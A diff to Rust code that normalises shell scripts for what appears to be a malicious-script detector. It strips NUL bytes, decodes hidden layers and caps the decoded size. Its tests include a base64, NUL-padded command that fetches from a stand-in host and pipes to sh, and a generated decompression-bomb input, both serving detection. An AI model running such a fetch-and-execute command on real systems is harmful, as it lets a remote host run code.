@@ -36,7 +36,12 @@ impl Layers {
         self.ends.clear();
     }
 
-    fn add(&mut self, at: u32, layer: impl Iterator<Item = u8>) {
+    /// Adds a layer of so many bytes unless it is longer than what is left.
+    fn add(&mut self, at: u32, left: &mut usize, bytes: usize, layer: impl Iterator<Item = u8>) {
+        if bytes > *left {
+            return;
+        }
+        *left -= bytes;
         self.bytes.extend(layer);
         self.ends.push((at, self.bytes.len()));
     }
@@ -62,6 +67,11 @@ pub(super) struct Normal {
     codes: Vec<u8>,
     /// How much may still be put in place of variables' names.
     values_left: usize,
+    /// How much may still be decoded.
+    layers_left: usize,
+    /// A script without its NULs, and where each of its bytes was.
+    compact: Vec<u8>,
+    places: Vec<u32>,
     /// What was found hidden in what is being read.
     found: Layers,
     /// What is being read.
@@ -69,26 +79,42 @@ pub(super) struct Normal {
 }
 
 impl Normal {
-    /// Brings a script into normal form.
+    /// Brings a script into normal form. Shells drop NULs as they read.
     pub(super) fn form(&mut self, script: &[u8]) {
+        if memchr::memchr(0, script).is_none() {
+            self.form_text(script);
+            return;
+        }
+        let (mut compact, mut places) = (std::mem::take(&mut self.compact), std::mem::take(&mut self.places));
+        compact.clear();
+        places.clear();
+        for (at, byte) in script.iter().enumerate().filter(|(_, byte)| **byte != 0) {
+            compact.push(*byte);
+            places.push(at as u32);
+        }
+        self.form_text(&compact);
+        for at in &mut self.origin {
+            *at = places.get(*at as usize).copied().unwrap_or_default();
+        }
+        (self.compact, self.places) = (compact, places);
+    }
+
+    fn form_text(&mut self, script: &[u8]) {
         self.text.clear();
         self.origin.clear();
         self.quoted.clear();
         self.variables.clear();
         self.found.clear();
         self.values_left = VALUES_BYTES + script.len();
+        self.layers_left = LAYERS_BYTES + script.len();
+        self.decoder.begin(script.len());
         self.find_layers(script, None);
         self.flatten(script, None);
-        let mut budget = LAYERS_BYTES + script.len();
         for _ in 0..DEPTH_MAX {
             std::mem::swap(&mut self.found, &mut self.reading);
             self.found.clear();
             let reading = std::mem::take(&mut self.reading);
             for (at, layer) in reading.iter() {
-                if layer.len() > budget {
-                    continue;
-                }
-                budget -= layer.len();
                 self.push(b'\n', at);
                 self.push(LAYER, at);
                 self.find_layers(layer, Some(at));
@@ -101,14 +127,19 @@ impl Normal {
     /// Collects what `text` hides. Positions are those of the script, or `fixed` within a layer.
     fn find_layers(&mut self, text: &[u8], fixed: Option<u32>) {
         let at = |start: usize| fixed.unwrap_or(start as u32);
-        let found = &mut self.found;
-        self.decoder.layers(text, |start, layer| found.add(at(start), layer.iter().copied()));
-        codes::lists(text, &mut self.codes, |start, list| found.add(at(start), list.iter().copied()));
+        let (found, left) = (&mut self.found, &mut self.layers_left);
+        self.decoder
+            .layers(text, |start, layer| found.add(at(start), left, layer.len(), layer.iter().copied()));
+        codes::lists(text, &mut self.codes, |start, list| {
+            found.add(at(start), left, list.len(), list.iter().copied());
+        });
         if has_word(text, b"rev") || memchr::memmem::find(text, b"[::-1]").is_some() {
-            decode::quoted_strings(text, |start, string| found.add(at(start), string.iter().rev().copied()));
+            decode::quoted_strings(text, |start, string| {
+                found.add(at(start), left, string.len(), string.iter().rev().copied());
+            });
         }
         if memchr::memmem::find(text, b"n-za-m").is_some() {
-            found.add(at(0), decode::rot13(text));
+            found.add(at(0), left, text.len(), decode::rot13(text));
         }
     }
 
@@ -164,12 +195,9 @@ impl Normal {
                     }
                     i += 1;
                 }
-                b'\r' => i += 1,
+                // NULs are those of decoded layers: those of the script are gone.
+                b'\r' | 0 => i += 1,
                 b'$' => i += self.dollar(&source[i..], at(i)),
-                0 => {
-                    self.push(b' ', at(i));
-                    i += 1;
-                }
                 _ => {
                     let ends_word =
                         matches!(byte, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'`');
@@ -376,6 +404,31 @@ mod tests {
         );
         // In a comment they are left out with it.
         assert_eq!(form(&format!("a\n# {full}\n{full}\nb")), "a\n\n\nb");
+    }
+
+    #[test]
+    fn nuls_are_dropped_as_shells_drop_them_and_places_stay_right() {
+        let mut normal = Normal::default();
+        normal.form(b"a\0b c\0\0url\nx");
+        assert_eq!(normal.text, b"ab curl\nx");
+        assert_eq!(normal.origin, [0, 2, 3, 4, 7, 8, 9, 10, 11]);
+        let hidden = "Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==";
+        let spread: String = hidden.chars().flat_map(|c| [c, '\0']).collect();
+        assert!(form(&spread).contains("curl http://192.0.2.1/x | sh"));
+    }
+
+    #[test]
+    fn a_script_that_unpacks_to_gigabytes_is_unpacked_to_a_bound() {
+        use base64::{Engine, prelude::BASE64_STANDARD};
+        let mut zip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        std::io::Write::write_all(&mut zip, &b"echo a\n".repeat(40_000)).unwrap();
+        let bomb = BASE64_STANDARD.encode(zip.finish().unwrap()) + " ";
+        let script = bomb.repeat((1 << 20) / bomb.len());
+        let mut normal = Normal::default();
+        normal.form(script.as_bytes());
+        assert!(normal.text.len() <= 2 * script.len() + LAYERS_BYTES + 64 * 1024, "{}", normal.text.len());
+        let layers = normal.found.bytes.capacity() + normal.reading.bytes.capacity();
+        assert!(layers <= 4 * (script.len() + LAYERS_BYTES), "{layers}");
     }
 
     #[test]
